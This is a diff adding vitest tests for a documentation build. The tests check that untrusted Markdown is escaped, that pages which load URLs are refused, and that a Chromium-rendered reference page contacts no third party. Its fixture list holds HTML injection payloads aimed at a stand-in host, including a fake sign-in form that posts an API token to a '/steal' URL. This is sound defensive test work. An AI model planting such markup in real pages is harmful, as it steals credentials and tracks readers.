@@ -34,7 +34,8 @@ import { chromium } from "playwright-core";
 import ts from "typescript";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { parse } from "yaml";
-import { buildDocs } from "../../scripts/docs.js";
+import { buildDocs, urlLoader } from "../../scripts/docs.js";
+import { untrustedMarkdown } from "../../scripts/encode.js";
 import { contractModel } from "../../scripts/contract-model.js";
 import { mcpTools, render } from "../../scripts/generate-mcp.js";
 import { testingOutputs } from "../../scripts/generate-testing.js";
@@ -481,3 +482,66 @@ describe("the reference page", () => {
     }
   }, 120_000);
 });
+
+/**
+ * Markup that loads or submits a URL without a script: each inside backslash-escaped backticks
+ * (a literal backtick in Markdown, so no code span), or in a block of its own.
+ */
+const URL_LOADERS = [
+  "\\`<video poster=https://third-party.example/poster.png></video>\\`",
+  "\\`<input type=image src=https://third-party.example/input.png>\\`",
+  "\\`<svg><image href=https://third-party.example/svg.png></image></svg>\\`",
+  "\\`<style>@import url(https://third-party.example/import.css);</style>\\`",
+  "\\`<audio src=https://third-party.example/audio.mp3></audio>\\`",
+  "\\`<form action=https://third-party.example/steal><input name=token placeholder='Your API token'><button>Sign in</button></form>\\`",
+  "\\`<img srcset=https://third-party.example/srcset.png>\\`",
+  "\\`<div style=\"background:url(https://third-party.example/bg.png)\">x</div>\\`",
+  "\\`<iframe src=https://third-party.example/frame></iframe>\\`",
+  "\\`<meta http-equiv=refresh content='0;url=https://third-party.example/meta'>\\`",
+];
+
+describe("the reference page and markup that loads a URL", () => {
+  it("escaped backticks do not make code: the contract's Markdown holds no live element (as Redoc's parser reads it)", () => {
+    for (const text of URL_LOADERS) expect(untrustedMarkdown(text), text).not.toMatch(/<(?:video|input|svg|style|audio|form|img|div|iframe|meta)\b/);
+    // Real code stays as written: a span, a fenced and an indented block.
+    expect(untrustedMarkdown("`<b>` and\n\n```\n<i>\n```\n\n    <u>\n")).toBe("`<b>` and\n\n```\n<i>\n```\n\n    <u>\n");
+  });
+
+  it("the build refuses a page that would load or submit a URL by itself", () => {
+    for (const html of ['<video poster="https://x.example/p.png">', "<form action=https://x.example>", "<style>@import url(x.css)</style>", '<div style="background:url(https://x.example/b.png)">', '<svg><image href="https://x.example/i.png"/></svg>', '<meta http-equiv="refresh" content="0;url=https://x.example">']) {
+      expect(urlLoader(`<html><body>${html}</body></html>`), html).toBeDefined();
+    }
+    expect(urlLoader('<html><body><a href="https://example.com">a link</a><svg><use href="#icon"/></svg><script>const t = "<img src=https://x>";</script></body></html>')).toBeUndefined();
+  });
+
+  it("built with each in every description, contacts no third party in Chromium", async () => {
+    expect(existsSync("/usr/bin/chromium"), "needs Debian's chromium (apt-get install -y chromium)").toBe(true);
+    const doc = planted(base, (n) => `Zq${n}q ${URL_LOADERS[n % URL_LOADERS.length]} Zq${n}e`);
+    const spec = join(scratch, "url-loaders.json");
+    await writeFile(spec, JSON.stringify(doc));
+    const page = join(scratch, "url-loaders.html");
+    await buildDocs({ specPath: spec, outputPath: page });
+    const browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"], timeout: 60_000 });
+    try {
+      const tab = await browser.newPage();
+      const contacted: string[] = [];
+      await tab.route("**/*", (route) => {
+        const url = route.request().url();
+        if (url.startsWith("file:") || url.startsWith("data:") || url.startsWith("blob:")) return route.continue();
+        contacted.push(url);
+        return route.abort();
+      });
+      await tab.goto(pathToFileURL(page).href);
+      await tab.waitForSelector("[data-section-id]", { timeout: 60_000 });
+      expect(await tab.evaluate(() => document.body.innerText.includes("Zq")), "the page shows the planted text").toBe(true);
+      // Every element the strings name, had it been made live, would be in the document.
+      const live = await tab.evaluate(() => document.querySelectorAll("video, audio, form, iframe, input[type=image], svg image, img[srcset], meta[http-equiv]").length);
+      expect(live).toBe(0);
+      await tab.waitForTimeout(1000);
+      expect(contacted).toEqual([]);
+    } finally {
+      await browser.close();
+    }
+  }, 180_000);
+});
+
